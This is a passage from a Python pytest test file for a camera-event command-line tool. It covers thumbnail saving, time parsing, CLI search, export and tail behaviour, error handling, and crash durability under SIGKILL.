    assert path.parent == db.parent / "thumbnails" and os.listdir(path.parent) == ["s1.jpg"]
    with av.open(str(path)) as c:
        frame = next(c.decode(video=0)).to_ndarray(format="rgb24")
    assert frame.shape == (120, 160, 3)
    assert frame[60, 20, 0] > 200 and frame[60, 140, 0] < 50  # left half red, right half black
    with pytest.raises(InputError, match="HxWx3 uint8"):
        save_jpeg(db.parent / "x.jpg", np.zeros((4, 4), np.float32))


# -- time parsing ------------------------------------------------------------------------------------------------

NOW = datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)


@pytest.mark.parametrize("text, expected", [
    ("30s", NOW - timedelta(seconds=30)),
    ("15m", NOW - timedelta(minutes=15)),
    (" 2H ", NOW - timedelta(hours=2)),
    ("1.5h", NOW - timedelta(minutes=90)),
    ("3d", NOW - timedelta(days=3)),
    ("2w", NOW - timedelta(days=14)),
    ("0s", NOW),
    ("2024-05-01T14:30:00Z", datetime(2024, 5, 1, 14, 30, tzinfo=timezone.utc)),
    ("2024-05-01T14:30:00", datetime(2024, 5, 1, 14, 30, tzinfo=timezone.utc)),         # naive = UTC
    ("2024-05-01T16:30:00+02:00", datetime(2024, 5, 1, 14, 30, tzinfo=timezone.utc)),   # converted to UTC
    ("2024-05-01 14:30", datetime(2024, 5, 1, 14, 30, tzinfo=timezone.utc)),
    ("2024-05-01", datetime(2024, 5, 1, tzinfo=timezone.utc)),
])
def test_parse_time(text, expected):
    got = parse_time(text, now=NOW)
    assert got == expected and got.tzinfo == timezone.utc


@pytest.mark.parametrize("text", ["", "yesterday", "5x", "-2h", "2h ago", "2024-13-01", "99999999999d", "1e3s"])
def test_parse_time_rejects_anything_else(text):
    with pytest.raises(InputError, match="expected ISO 8601"):
        parse_time(text, now=NOW)


# -- CLI ---------------------------------------------------------------------------------------------------------

def test_cli_search_json_fields(timeline, capsys):
    code, out, _ = run_cli(["events", "search", "cars", "--db", str(timeline), "--json"], capsys)
    records = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [r["caption"] for r in records] == ["three cars in a parking lot",
                                                             "a red car parked in the driveway"]
    assert {"id", "kind", "camera", "start", "end", "source_start_s", "source_end_s", "caption", "confidence",
            "thumbnail"} <= set(records[0])
    assert records[0]["start"] == "2024-05-01T12:00:00Z"


def test_cli_search_table_and_filters(timeline, capsys):
    code, out, _ = run_cli(["events", "search", "--db", str(timeline), "--camera", "street", "--kind",
                            "source_down", "--kind", "scene", "--until", "2024-05-01T11:30:00"], capsys)
    lines = out.splitlines()
    assert code == 0 and lines[0].startswith("TIME (UTC)") and len(lines) == 3
    assert "2024-05-01 11:00:00-11:01:00Z" in lines[1] and "a white truck on the road" in lines[1]
    assert "source_down" in lines[2] and "read timeout" in lines[2]


def test_cli_table_shows_an_outages_attempts_and_last_error(db, capsys):
    outage = Event("o1", "source_down", "gate", at(0), at(5), closed=False,
                   details={"message": "gate down: refused", "attempts": 7, "last_error": "attempt 7 failed: 401"})
    write(db, [outage, Event("o2", "source_down", "yard", at(1), at(1), details={"message": "yard down",
                                                                                  "attempts": 1})])
    code, out, _ = run_cli(["events", "search", "--db", str(db), "--kind", "source_down"], capsys)
    lines = {line.split()[2]: line for line in out.splitlines()[1:]}
    assert code == 0 and lines["gate"].endswith("gate down: refused [7 attempts; last: attempt 7 failed: 401] (open)")
    assert lines["yard"].endswith("yard down")  # a single attempt needs no count


@pytest.mark.parametrize("argv, fragment", [
    (["events", "search", "car", "--db", "{missing}"], "event database not found: "),
    (["events", "export", "--db", "{missing}", "--format", "csv"], "event database not found: "),
    (["events", "tail", "--db", "{missing}", "--no-follow"], "event database not found: "),
    (["events", "migrate", "--db", "{missing}"], "event database not found: "),
    (["events", "search", "--db", "{db}", "--since", "last tuesday"], "cannot read time"),
    (["events", "search", "--db", "{db}", "--limit", "0"], "limit"),
    (["events"], "choose an action"),
])
def test_cli_user_errors_are_one_line_exit_2(timeline, tmp_path, capsys, argv, fragment):
    argv = [a.format(missing=tmp_path / "missing.sqlite", db=timeline) for a in argv]
    code, out, err = run_cli(argv, capsys)
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("edgecap: error: ") and fragment in err


def test_cli_export_to_file_and_tail(timeline, tmp_path, capsys):
    target = tmp_path / "out.csv"
    code, _, err = run_cli(["events", "export", "--db", str(timeline), "--format", "csv", "--out", str(target)],
                           capsys)
    assert code == 0 and "exported 5 events" in err
    assert len(list(csv.DictReader(target.open(encoding="utf-8", newline="")))) == 5
    code, out, _ = run_cli(["events", "tail", "--db", str(timeline), "--no-follow", "--json", "--last", "2"],
                           capsys)
    assert code == 0 and [json.loads(line)["caption"] for line in out.splitlines()] == [
        "three cars in a parking lot", None]


# A shell that starts a job in the background hands it SIGINT ignored (and Python then never raises
# KeyboardInterrupt); restore the interactive default so the test means Ctrl-C wherever the suite runs.
TAIL_CLI = textwrap.dedent("""
    import argparse, signal, sys
    signal.signal(signal.SIGINT, signal.default_int_handler)
    from edgecap.cli.events import register
    parser = argparse.ArgumentParser()
    register(parser.add_subparsers())
    args = parser.parse_args(sys.argv[1:])
    sys.exit(args.func(args))
""")


@pytest.mark.skipif(os.name != "posix", reason="SIGINT delivery")
def test_cli_tail_follows_another_process_and_ctrl_c_exits_0(db):
    write(db, [scene("before", uid="before")])
    proc = subprocess.Popen([sys.executable, "-c", TAIL_CLI, "events", "tail", "--db", str(db), "--json",
                             "--poll", "0.02"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert json.loads(proc.stdout.readline())["uid"] == "before"  # the backlog printed: it follows now
        write(db, [scene("after", uid="after")])
        assert json.loads(proc.stdout.readline())["uid"] == "after"
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=10)
    finally:
        proc.kill()
    assert proc.returncode == 0 and "Traceback" not in err


# -- durability --------------------------------------------------------------------------------------------------

WRITER = textwrap.dedent("""
    import sys, uuid
    from datetime import datetime, timezone
    from edgecap.events import Event, EventStore
    store = EventStore(sys.argv[1], jsonl=sys.argv[2])
    print("ready", flush=True)
    i = 0
    while True:
        acks = [store.put(Event(uuid.uuid4().hex, "scene", "cam", datetime.now(timezone.utc),
                                caption=f"event {i + k} " + "x" * 300)) for k in range(20)]
        print(" ".join(str(a.wait(10)) for a in acks), flush=True)
        i += 20
""")


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(20))  # RELIABILITY.md item 13: at least 20 kills at random moments
def test_kill_9_keeps_every_acknowledged_event(tmp_path, trial):
    db, jsonl = tmp_path / "e.sqlite", tmp_path / "e.jsonl"
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(db), str(jsonl)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "ready", proc.stderr.read()
        first = proc.stdout.readline()  # at least one acknowledged batch, however slow the machine
        time.sleep(random.Random(trial).uniform(0.0, 0.4))
        proc.send_signal(signal.SIGKILL)
        out, _ = proc.communicate(timeout=10)
        out = first + out
    finally:
        proc.kill()
    acknowledged = {int(x) for line in out.split("\n")[:-1] for x in line.split()}  # complete lines only
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    stored = {row_id for (row_id,) in conn.execute("SELECT id FROM events")}
    conn.close()
    assert acknowledged and acknowledged <= stored
    write(db, [scene("after the crash")], jsonl=jsonl)  # recovery: partial line cut, seq continues
    seqs = [r["seq"] for r in read_jsonl(jsonl)]
    assert seqs == list(range(1, len(seqs) + 1))
